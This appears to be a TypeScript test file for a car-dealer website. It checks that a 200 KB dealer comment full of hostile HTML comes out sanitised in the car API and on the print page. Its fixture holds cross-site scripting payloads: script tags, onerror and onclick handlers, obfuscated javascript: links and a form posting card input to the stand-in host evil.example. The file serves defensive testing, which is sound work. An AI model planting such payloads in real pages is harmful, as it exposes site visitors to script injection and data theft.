import type { Car } from '@forecourt/contracts/car/car';
import { replaceTestStock, openTestSite, type TestSite } from '../../platform/testing/test-site';

const TEXT = 'One careful owner. '.repeat(11_000);
const HOSTILE = [
  '<script>document.title = "taken"</script><style>body{display:none}</style><iframe src="javascript:alert(1)"></iframe>',
  '<img src=x onerror="alert(2)"><svg><script>alert(3)</script></svg><form action="//evil.example"><input name=card></form>',
  '<p onclick="alert(4)" style="position:fixed">Good <b>car <i>with <a href="java&#10;script:alert(5)">a link</a>',
  '</main></body></html><!-- no --><div><table><tr><td>open cell <p>open paragraph &lt;script&gt;alert(6)&lt;/script&gt;',
  TEXT,
  // An HTML comment without an end continues to the end of the page.
  '<!-- never closed <script>alert(7)</script>',
].join('\n');
const car = {
  id: 'hostile',
  slug: 'hostile',
  name: '2020 Ford Ranger',
  make: 'Ford',
  model: 'Ranger',
  year: 2020,
  car_type: 'used',
  status: 'in_stock',
  price: 30_000,
  price_type: 'drive_away',
  show_on_dealer_website: true,
  images: [],
  dealercomments: HOSTILE,
};

let made: TestSite;

beforeAll(async () => {
  made = await openTestSite(['harbour']);
  await replaceTestStock(made, 'harbour', [car]);
}, 120_000);
afterAll(() => made.close());

const ask = (url: string) => made.app.inject({ url, headers: { host: 'harbour.localhost', accept: 'text/html' } });

it('V-07 Q-04 a hostile comment of 200 KB reaches pages as closed, harmless text', async () => {
  const { dealercomments = '' } = (await ask('/api/cars/hostile')).json<Car>();
  expect(HOSTILE.length).toBeGreaterThan(200_000);
  expect(dealercomments).toContain('Good <b>car <i>with <a rel="nofollow noopener">a link</a>');
  expect(dealercomments).toContain('One careful owner.');
  expect(dealercomments.match(/<(?!\/?(?:p|b|i|a|table|tr|td|tbody)\b)[^>]*>/g)).toBeNull();
  expect(dealercomments).not.toMatch(/<[^>]*(?:\son\w+|style|javascript)/i);
  for (const tag of ['p', 'b', 'i', 'table', 'td'])
    expect(dealercomments.match(new RegExp(`<${tag}[ >]`, 'g'))?.length).toBe(
      dealercomments.match(new RegExp(`</${tag}>`, 'g'))?.length,
    );
});

it('V-19 Q-04 the print sheet shows the first words of a hostile comment as text', async () => {
  const { statusCode, body } = await ask('/print?car_id=hostile');
  expect([statusCode, body.match(/<script/g)?.length, body.match(/<style/g)?.length]).toEqual([200, 1, 1]);
  expect(body).toContain('<p>Good car with a link');
  expect(body).not.toMatch(/iframe|onerror|onclick|evil\.example|<script>alert/);
  expect(body.length).toBeLessThan(30_000);
});
